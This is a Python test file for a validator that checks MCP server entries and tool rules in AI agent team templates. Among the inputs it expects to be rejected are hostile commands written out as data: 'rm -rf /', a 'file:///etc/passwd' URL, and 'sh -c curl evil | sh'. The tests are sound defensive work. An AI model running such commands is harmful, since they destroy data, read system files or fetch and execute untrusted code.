"""MCP servers in team definitions: what is accepted, and 400s that name the field's path."""

from __future__ import annotations

from typing import Any

import pytest
from pydantic import ValidationError

from svc.core import BadRequest
from svc.core.models import describe
from svc.templates import TeamDefinition, check_definition, json_schema
from tests.support.accounts import bearer, create_key, signup


def team(
    servers: list[dict[str, Any]], agent_servers: list[str] | None = None, **agent: Any
) -> dict[str, Any]:
    lead = {
        "key": "lead",
        "name": "Lead",
        "model": "providerA:small",
        "mcpServers": agent_servers or [],
        **agent,
    }
    return {"requiredSecrets": ["TOKEN"], "agents": [lead], "mcpServers": servers}


def problem(definition: dict[str, Any]) -> str:
    try:
        check_definition(TeamDefinition.model_validate(definition))
    except ValidationError as exc:
        return describe(exc)
    except BadRequest as exc:
        return exc.message
    return ""


def test_remote_and_catalogue_servers_are_accepted() -> None:
    definition = team(
        [
            {
                "name": "docs",
                "url": "https://mcp.example.com/mcp",
                "headers": {"Authorization": "Bearer ${TOKEN}"},
            },
            {"name": "time", "catalogue": "time", "timeoutSeconds": 10},
        ],
        ["docs", "time"],
    )
    assert problem(definition) == ""
    parsed = TeamDefinition.model_validate(definition).model_dump(mode="json", exclude_none=True)
    assert parsed["mcpServers"][0]["url"] == "https://mcp.example.com/mcp"
    plain = TeamDefinition.model_validate({"agents": [{"key": "a", "name": "A", "model": "providerA:small"}]})
    assert "mcpServers" not in plain.model_dump(mode="json", exclude_none=True)  # old definitions unchanged


@pytest.mark.parametrize(
    ("servers", "agent_servers", "expected"),
    [
        (
            [{"name": "x", "url": "https://h/mcp", "transport": "websocket"}],
            ["x"],
            "mcpServers[0].transport: Input should be",
        ),
        (
            [{"name": "x", "transport": "stdio", "url": "https://h/mcp"}],
            ["x"],
            "a template cannot start processes",
        ),
        (
            [{"name": "x", "command": "rm", "args": ["-rf", "/"]}],
            ["x"],
            "mcpServers[0]: `command`: a template cannot name a command",
        ),
        (
            [{"name": "x", "url": "file:///etc/passwd"}],
            ["x"],
            "mcpServers[0].url: must be an http:// or https:// URL",
        ),
        (
            [{"name": "x", "url": "https://user:pw@h/mcp"}],
            ["x"],
            "mcpServers[0].url: must be an http:// or https:// URL",
        ),
        ([{"name": "x"}], ["x"], "give exactly one of `url`"),
        (
            [{"name": "Bad_Name", "url": "https://h/mcp"}],
            [],
            "mcpServers[0].name: String should match pattern",
        ),
        (
            [{"name": "x", "url": "https://h/mcp", "headers": {"X": "${OTHER}"}}],
            ["x"],
            "mcpServers[0].headers.X: ${OTHER} is not in requiredSecrets",
        ),
        (
            [{"name": "x", "url": "https://h/mcp"}, {"name": "x", "catalogue": "t"}],
            ["x"],
            "mcpServers[1].name: duplicate MCP server name",
        ),
        ([{"name": "x", "url": "https://h/mcp"}], ["y"], "agents[0].mcpServers[0]: no MCP server named 'y'"),
    ],
)
def test_bad_servers_are_refused_naming_the_field(
    servers: list[dict[str, Any]], agent_servers: list[str], expected: str
) -> None:
    assert expected in problem(team(servers, agent_servers))


def test_more_than_ten_servers_per_agent_is_refused() -> None:
    servers = [{"name": f"s{n}", "url": "https://h/mcp"} for n in range(11)]
    assert "agents[0].mcpServers: List should have at most 10 items" in problem(
        team(servers, [s["name"] for s in servers])
    )


@pytest.mark.parametrize(
    ("rule", "expected"),
    [
        (
            {"match": {"tool": "bad tool!"}, "action": "allow"},
            "mcp.rules[0].match.tool: String should match pattern",
        ),
        (
            {"match": {"arguments": [{"path": "$..x", "pattern": "*"}]}, "action": "deny"},
            "argument path '$..x' does not parse",
        ),
        ({"match": {"tool": "x"}, "action": "maybe"}, "mcp.rules[0].action: Input should be"),
    ],
)
def test_tool_rules_that_do_not_parse_are_refused(rule: dict[str, Any], expected: str) -> None:
    policy = {"accessPolicyVersion": "1", "mcp": {"rules": [rule]}}
    assert expected in problem(team([{"name": "x", "url": "https://h/mcp"}], ["x"], accessPolicy=policy))


def test_the_schema_describes_the_new_fields() -> None:
    schema = json_schema()
    definitions = schema["definitions"]
    assert "mcpServers" in schema["properties"] and "mcpServers" in definitions["Agent"]["properties"]
    assert definitions["McpServer"]["properties"]["transport"]["anyOf"][0]["enum"] == [
        "streamable-http",
        "catalogue",
    ]
    assert definitions["McpRule"]["properties"]["action"]["enum"] == [
        "allow",
        "deny",
        "judge",
        "require_approval",
    ]
    assert "mcp" in definitions["AccessPolicy"]["properties"]


async def test_a_template_naming_a_command_gets_a_400_with_the_path(client: Any) -> None:
    key = await create_key(client, await signup(client))
    body = {
        "slug": "rce",
        "name": "RCE",
        "description": "",
        "ownerTeam": "t",
        "visibility": "public",
        "definition": team([{"name": "x", "command": "sh", "args": ["-c", "curl evil | sh"]}], ["x"]),
    }
    response = await client.post("/api/templates", json=body, headers=bearer(key))
    assert response.status == 400
    error = (await response.json())["error"]
    assert error.startswith("definition.mcpServers[0]: `command`: a template cannot name a command to run")
    schema = await (await client.get("/api/schema/team/v1.json")).json(content_type=None)
    assert "McpServer" in schema["definitions"]


def test_a_version_adding_a_server_or_widening_a_tool_rule_is_minor_in_the_diff() -> None:
    import copy

    from svc.templates.versioning import structured_diff

    deny = {
        "accessPolicyVersion": "1",
        "defaultAction": "deny",
        "mcp": {"rules": [{"match": {"tool": "x"}, "action": "deny"}]},
    }
    old = {
        "agents": [{"key": "a", "name": "A", "mcpServers": ["t"], "accessPolicy": deny}],
        "mcpServers": [{"name": "t", "catalogue": "time"}],
    }
    added = copy.deepcopy(old)
    added["mcpServers"].append({"name": "u", "url": "https://h/mcp"})
    added["agents"][0]["mcpServers"].append("u")
    diff = structured_diff(old, added)
    assert diff["bump"] == "MINOR" and diff["reasons"] == [
        "MCP server 'u' added",
        "agent 'a' may use MCP server 'u'",
    ]
    wider = copy.deepcopy(old)
    wider["agents"][0]["accessPolicy"]["mcp"]["rules"][0]["action"] = "require_approval"
    assert structured_diff(old, wider)["reasons"] == ["agent 'a': MCP tool rules widened"]
    opened = copy.deepcopy(old)
    opened["agents"][0]["accessPolicy"]["mcp"]["defaultAction"] = "allow"
    assert structured_diff(old, opened)["bump"] == "MINOR"
    narrower = copy.deepcopy(old)
    narrower["agents"][0]["accessPolicy"]["mcp"]["rules"].append({"match": {"tool": "y"}, "action": "deny"})
    assert structured_diff(old, narrower)["bump"] == "PATCH"
    moved = copy.deepcopy(old)
    moved["mcpServers"][0] = {"name": "t", "url": "https://elsewhere.example/mcp"}
    assert structured_diff(old, moved)["reasons"] == ["MCP server 't' reaches another server"]


def test_the_definition_editor_validates_the_mcp_fields_as_you_type() -> None:
    import json

    from svc.templates import Definitions  # the editor's check as you type (POST /api/templates/validate)

    check = Definitions({"providerA", "providerB"}).check_text
    bad = team([{"name": "x", "command": "sh"}], ["x"])
    errors = check(json.dumps(bad)).as_dict()["errors"]
    assert errors[0]["path"] == "definition.mcpServers[0]" and "cannot name a command" in errors[0]["message"]
    undeclared = team([{"name": "x", "url": "https://h/mcp"}], ["y"])
    errors = check(json.dumps(undeclared)).as_dict()["errors"]
    assert errors == [
        {
            "path": "definition.agents[0].mcpServers[0]",
            "message": "no MCP server named 'y' in the team's mcpServers",
        }
    ]
    assert check(json.dumps(team([{"name": "x", "url": "https://h/mcp"}], ["x"]))).as_dict()["valid"]


def test_an_installs_move_counts_what_widens_each_agents_mcp_reach() -> None:
    """The upgrade's reach comparison (svc/templates/permissions.py): what the deployer accepts."""
    import copy

    from svc.templates.permissions import permission_changes, widened_agents

    deny = {"accessPolicyVersion": "1", "defaultAction": "deny", "mcp": {"rules": []}}
    old = {
        "agents": [{"key": "a", "name": "A", "mcpServers": ["t"], "accessPolicy": deny}],
        "mcpServers": [{"name": "t", "url": "https://h/mcp", "description": "time"}],
    }

    def mcp(new: dict[str, Any]) -> dict[str, list[str]]:
        return {change["agent"]: change["mcp"] for change in permission_changes(old, new)}

    described = copy.deepcopy(old)
    described["mcpServers"][0].update(description="the clock", timeoutSeconds=5)
    assert mcp(described) == {} and structured_diff_bump(old, described) == "PATCH"
    moved = copy.deepcopy(old)
    moved["mcpServers"][0]["headers"] = {"Authorization": "Bearer ${TOKEN}"}
    assert mcp(moved) == {"a": ["MCP server 't' reaches another server"]}
    opened = copy.deepcopy(old)
    opened["agents"][0]["accessPolicy"]["mcp"]["defaultAction"] = "allow"
    assert mcp(opened) == {"a": ["MCP tool rules widened"]}
    helper = {"key": "b", "name": "B", "mcpServers": ["t"], "accessPolicy": deny}
    added = copy.deepcopy(old)
    added["agents"].append(helper)
    assert mcp(added) == {"b": ["may use MCP server 't'"]}
    assert widened_agents(permission_changes(old, added)) == ["b"]
    dropped = copy.deepcopy(old)
    dropped["agents"][0]["mcpServers"] = []
    assert widened_agents(permission_changes(old, dropped)) == []


def structured_diff_bump(old: dict[str, Any], new: dict[str, Any]) -> str:
    from svc.templates.versioning import structured_diff

    return str(structured_diff(old, new)["bump"])
